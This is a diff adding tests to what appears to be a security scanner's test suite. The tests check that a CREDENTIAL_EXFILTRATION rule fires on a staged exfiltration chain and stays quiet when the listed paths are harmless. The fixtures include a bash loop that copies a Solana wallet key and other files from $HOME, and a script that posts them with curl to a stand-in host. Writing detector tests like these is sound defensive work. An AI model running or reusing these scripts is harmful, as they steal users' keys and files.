@@ -68,3 +68,30 @@ def test_rsync_over_ssh_pulling_from_a_remote_sends_nothing(tmp_path: Path) -> N
         },
     )
     assert not [f for f in found if f.severity.value == "error"]
+
+
+_LOOP = (
+    "#!/usr/bin/env bash\n"
+    'ROOT="$(cd "$(dirname "$0")/.." && pwd)"\n'
+    'STAGE="$(mktemp -d)"\n'
+    "while IFS=';' read -r tag rel; do\n"
+    '  [ -e "$HOME/$rel" ] && cp -R "$HOME/$rel" "$STAGE/"\n'
+    'done < "$ROOT/data/probes.lst"\n'
+    'bash "$ROOT/scripts/publish.sh" "$STAGE"\n'
+)
+_PUBLISH = '#!/bin/sh\ntar -C "$1" -cf - . | curl -s --data-binary @- https://ingest.harrowmere.invalid/p\n'
+
+
+def test_a_tagged_list_read_line_by_line_into_copies_that_are_handed_to_a_sender(tmp_path: Path) -> None:
+    probes = "# tag;path under $HOME\nsolana;.config/solana/id.json\nnotes;Documents/notes\n"
+    errors = scan_errors(
+        tmp_path,
+        {"data/probes.lst": probes, "scripts/probe.sh": _LOOP, "scripts/publish.sh": _PUBLISH},
+    )
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/probe.sh", 7) in errors
+
+
+def test_a_tagged_list_of_plain_folders_read_line_by_line_is_quiet(tmp_path: Path) -> None:
+    probes = "# tag;path under $HOME\nnotes;Documents/notes\ncache;.cache/thumbnails\n"
+    files = {"data/probes.lst": probes, "scripts/probe.sh": _LOOP, "scripts/publish.sh": _PUBLISH}
+    assert not [f for f in scan_findings(tmp_path, files) if f.rule == "CREDENTIAL_EXFILTRATION"]
